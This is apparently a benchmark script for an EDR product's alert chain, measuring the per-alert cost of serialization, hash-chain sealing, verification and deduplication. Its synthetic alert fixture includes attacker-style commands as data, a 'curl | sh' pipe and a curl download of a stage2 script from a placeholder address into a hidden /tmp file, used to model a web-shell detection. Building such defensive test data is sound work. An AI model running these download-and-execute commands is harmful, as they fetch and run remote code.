#!/usr/bin/env python3
"""Benchmark the alert chain and dedup: microseconds per alert.

The alerts are ECS documents of realistic size: by default made by
:func:`edr.alerts.ecs.to_ecs` from Sigma-style alerts on process creation
events (about 1.3 KB a line); ``--alerts FILE`` uses the lines of a real alert
file instead (for example one written by ``edr replay``). Each figure is the
best of ``--repeat`` runs over ``--count`` alerts:

- ``serialize``: ``dumps_line(doc)``, what the writer does today (the baseline);
- ``seal sha256`` / ``seal hmac``: :meth:`AlertChain.seal`, which serializes and
  chains; the chain's own cost is the difference with the baseline;
- ``verify``: :class:`ChainVerifier` per line (parse and re-hash);
- ``dedup first``: every alert distinct (each opens a window: key, size, heap;
  beyond 4,096 open windows each also evicts the oldest);
- ``dedup repeat``: every alert identical (each is counted);
- ``dedup mixed``: 20 processes repeating, windows closing as time moves on.

    python3 scripts/bench_chain.py
    python3 scripts/bench_chain.py --alerts logs/alerts.json.2026-11-22 --count 20000
"""

from __future__ import annotations

import argparse
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "src"))

import orjson  # noqa: E402

from edr.alerts.chain import AlertChain  # noqa: E402
from edr.alerts.dedup import AlertDeduplicator  # noqa: E402
from edr.alerts.ecs import HostInfo, to_ecs  # noqa: E402
from edr.alerts.ndjson import dumps_line  # noqa: E402
from edr.alerts.verify import ChainVerifier  # noqa: E402
from edr.detect.alert import Alert  # noqa: E402
from edr.event import Event  # noqa: E402

KEY = b"bench-key-0123456789abcdef0123456789"
T0 = 1_772_359_200.0


def make_alert(i: int, *, pid: int | None = None, variant: int | None = None, t: float | None = None) -> Alert:
    """A Sigma-style alert on a process creation; ``pid`` and ``variant`` (the command) default to ``i``."""
    pid = 4000 + i if pid is None else pid
    variant = i if variant is None else variant
    event = Event(category="process_creation", product="linux", timestamp=T0 + i * 0.001 if t is None else t,
                  seq=i, fields={
                      "ProcessId": pid, "Image": "/usr/bin/curl", "ParentProcessId": 900 + pid % 50,
                      "ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -c 'curl | sh'",
                      "CommandLine": f"curl -s http://203.0.113.{variant % 250}/stage2.sh -o /tmp/.x{variant}",
                      "CurrentDirectory": "/var/www/html", "User": "www-data", "Uid": 33, "Gid": 33,
                      "ProcessStartTime": 123456 + i, "CgroupPath": "/system.slice/nginx.service",
                      "Comm": "curl", "ArgvTruncated": False})
    return Alert(rule_id="3f2c9a71-5d83-4f6b-8e0a-2b7d9c1f3e45", rule_name="Download to /tmp by a web server shell",
                 severity="high", engine="sigma", event=event,
                 tags=("attack.command-and-control", "attack.t1105", "attack.execution"),
                 description="A shell spawned by a web server downloads a file into a hidden path under /tmp.",
                 ecs={"threat.technique.id": ["T1105"], "threat.framework": "MITRE ATT&CK"})


def best(repeat: int, count: int, run: Callable[[Any], object], prepare: Callable[[], Any] = lambda: None) -> float:
    """Best microseconds per item over ``repeat`` runs of ``run(prepare())``; ``prepare`` is not timed."""
    times = []
    for _ in range(repeat):
        state = prepare()
        start = time.perf_counter()
        run(state)
        times.append(time.perf_counter() - start)
    return min(times) / count * 1e6


def main(argv: list[str] | None = None) -> int:
    """Run the benchmark and print one line per figure."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=20_000, help="alerts per run (default 20000)")
    parser.add_argument("--repeat", type=int, default=5, help="runs; the best is reported (default 5)")
    parser.add_argument("--alerts", type=Path, help="an alert file (NDJSON) to take documents from")
    args = parser.parse_args(argv)
    count = args.count

    host = HostInfo("bench-host", "linux")
    if args.alerts:
        source = [orjson.loads(line) for line in args.alerts.read_bytes().splitlines() if line.strip()]
        docs = [dict(source[i % len(source)]) for i in range(count)]
    else:
        docs = [to_ecs(make_alert(i), host) for i in range(count)]
    size = sum(len(dumps_line(d)) for d in docs[:1000]) / min(count, 1000)
    print(f"{count:,} alerts of {size:,.0f} bytes a line on average, best of {args.repeat} runs")

    def copies() -> list[dict[str, Any]]:
        return [dict(d) for d in docs]

    def serialize(ds: list[dict[str, Any]]) -> None:
        for d in ds:
            dumps_line(d)

    def seal_with(key: bytes | None) -> Callable[[list[dict[str, Any]]], None]:
        def run(ds: list[dict[str, Any]]) -> None:
            chain = AlertChain(key=key)
            for d in ds:
                chain.seal(d)
        return run

    base = best(args.repeat, count, serialize, copies)
    sha = best(args.repeat, count, seal_with(None), copies)
    mac = best(args.repeat, count, seal_with(KEY), copies)
    print(f"  serialize (today's writer)   {base:7.2f} us/alert")
    print(f"  seal sha256                  {sha:7.2f} us/alert   chain cost {sha - base:5.2f} us")
    print(f"  seal hmac-sha256             {mac:7.2f} us/alert   chain cost {mac - base:5.2f} us")

    chain = AlertChain()
    lines = [chain.seal(dict(d)) for d in docs]

    def verify_all(_: None) -> None:
        v = ChainVerifier()
        for n, line in enumerate(lines, 1):
            v.feed("bench", n, line)
        assert v.report().ok

    print(f"  verify sha256                {best(args.repeat, count, verify_all):7.2f} us/line")

    distinct = [make_alert(i) for i in range(count)]
    same = [make_alert(i, pid=4000, variant=0) for i in range(count)]
    mixed = [make_alert(i, pid=4000 + i % 20, variant=i % 20, t=T0 + i * 0.01) for i in range(count)]

    def dedup_run(alerts: list[Alert], window: float = 10.0) -> Callable[[None], None]:
        def run(_: None) -> None:
            d = AlertDeduplicator(window, max_entries=4096)
            for a in alerts:
                d.offer(a)
            d.flush()
        return run

    for label, alerts in (("dedup first (all distinct)", distinct), ("dedup repeat (all identical)", same),
                          ("dedup mixed (20 processes)", mixed)):
        print(f"  {label:28} {best(args.repeat, count, dedup_run(alerts)):7.2f} us/alert")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
